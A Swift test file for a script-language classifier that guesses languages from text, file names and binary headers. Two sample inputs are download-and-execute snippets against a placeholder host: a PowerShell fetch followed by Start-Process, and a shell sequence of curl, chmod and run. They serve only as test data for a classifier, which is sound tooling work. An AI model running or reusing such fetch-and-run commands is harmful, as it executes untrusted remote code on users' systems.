import Testing

@testable import PartialEvaluation

/// What bytes are, when nothing but the bytes says so.
struct LayerLanguageTests {
  static let programs: [(String, LayerLanguage)] = [
    ("import os\nos.getcwd()\n", .python),
    ("def f(x):\n    return x\n", .python),
    ("#!/usr/bin/env python3\nx = 1\n", .python),
    ("#!/bin/sh\nls\n", .shell),
    ("#!/usr/bin/env node\nlet x\n", .javascript),
    (
      "$p = \"$env:TEMP\\a.txt\"\nInvoke-WebRequest http://host.example.invalid -OutFile $p\nStart-Process $p\n",
      .powershell
    ),
    ("@echo off\r\nset X=%~dp0\r\nif exist a.txt del a.txt\r\nstart \"\" notepad\r\n", .batch),
    ("Dim shell\r\nSet shell = CreateObject(\"WScript.Shell\")\r\nshell.Run \"notepad\"\r\n", .vbscript),
    ("const fs = require('fs');\nfs.readFile('a', (e, d) => {\n  console.log(d);\n});\n", .javascript),
    ("cd /tmp\ncurl -s http://host.example.invalid/a -o a\nchmod +x a\nif [ -f a ]; then\n  ./a\nfi\n", .shell),
    ("The quick brown fox jumps over the lazy dog.\n", .unknown),
    ("", .unknown),
    ("\0\u{1}\u{2}", .unknown),
  ]

  @Test(arguments: programs)
  func isKnownByItsText(_ text: String, _ language: LayerLanguage) {
    #expect(LayerLanguage.guess(Array(text.utf8)) == language)
  }

  @Test func theNameOfTheFileDecidesAmongTexts() {
    let text = Array("x = 1\n".utf8)
    #expect(LayerLanguage.guess(text) == .unknown)
    #expect(LayerLanguage.guess(text, fileName: Array("C:\\a\\RUN.VBS".utf8)) == .vbscript)
    #expect(LayerLanguage.guess(text, fileName: Array("/tmp/a.pyw".utf8)) == .python)
    #expect(LayerLanguage.guess(text, fileName: Array("notes.txt".utf8)) == .unknown)
  }

  @Test func binariesByTheirHeaders() {
    let zip: [UInt8] = [0x50, 0x4B, 3, 4] + [UInt8](repeating: 0, count: 40)
    #expect(LayerLanguage.guess(zip, fileName: Array("a.py".utf8)) == .archive)
    #expect(LayerLanguage.guess([0x1F, 0x8B, 8, 0] + [UInt8](repeating: 0, count: 40)) == .archive)
    // Two letters are no program.
    #expect(LayerLanguage.guess(Array("MZ is what it begins with\n".utf8)) == .unknown)
    var elf: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1] + [UInt8](repeating: 0, count: 57)
    (elf[16], elf[20]) = (2, 1)
    #expect(LayerLanguage.guess(elf) == .executable)
  }
}
